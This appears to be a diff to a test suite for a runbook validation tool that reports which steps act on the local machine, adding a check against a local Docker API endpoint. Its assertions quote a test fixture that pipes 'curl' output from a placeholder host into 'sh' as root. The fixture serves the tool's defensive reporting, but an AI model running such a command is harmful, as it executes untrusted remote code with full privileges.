@@ -31,6 +31,12 @@ phases:
       - id: key
         action: aws.ensure
         with: {kind: key_pair, name: k, spec: {public_key_path: ~/.ssh/id_ed25519.pub}}
+      - id: local_service
+        action: http.check
+        with: {url: "http://127.0.0.1:2375/containers/json"}
+      - id: remote_service
+        action: http.check
+        with: {url: "http://203.0.113.9/health"}
 """
 
 
@@ -41,14 +47,16 @@ def test_validate_names_each_step_acting_on_this_machine(elematrix: str,
     res = cli(elematrix, "validate", str(path))
     assert res.returncode == 0, res.stderr
     out = res.stdout
-    assert "acts on THIS machine (5" in out, out
+    assert "acts on THIS machine (6" in out, out
     assert "one/shell_here (ssh.run): runs `curl -s http://example.invalid/x | sh` on THIS " \
            "machine as root" in out
     assert "one/maybe_here (ssh.run): its host is chosen at run time" in out
     assert "one/bashrc (local.write): writes ~/.bashrc on THIS machine" in out
     assert "one/lint_elsewhere (stack.doctor): reads /etc on THIS machine" in out
     assert "one/key (aws.ensure): reads ~/.ssh/id_ed25519.pub on THIS machine" in out
-    assert "harmless" not in out
+    assert "one/local_service (http.check): requests http://127.0.0.1:2375/containers/json" \
+        in out
+    assert "harmless" not in out and "remote_service" not in out
 
 
 def test_plan_names_them_with_rendered_inputs(elematrix: str, tmp_path: Path) -> None:
@@ -58,12 +66,12 @@ def test_plan_names_them_with_rendered_inputs(elematrix: str, tmp_path: Path) ->
     assert res.returncode == 0, res.stderr
     out = res.stdout
     head = out.split("Phase one")[0]
-    assert "Acts on THIS machine (5 step(s)" in head, out
+    assert "Acts on THIS machine (6 step(s)" in head, out
     assert "one/maybe_here (ssh.run): runs `id` on THIS machine (host: local)" in head
-    assert out.count("ON THIS MACHINE:") == 5
+    assert out.count("ON THIS MACHINE:") == 6
     res = cli(elematrix, "plan", str(path), "--deployment", "here", "--offline",
               "--set", "where=203.0.113.9")
-    assert "Acts on THIS machine (4 step(s)" in res.stdout, res.stdout
+    assert "Acts on THIS machine (5 step(s)" in res.stdout, res.stdout
 
 
 def test_plan_of_a_runbook_that_stays_in_its_sandbox_says_so(elematrix: str) -> None:
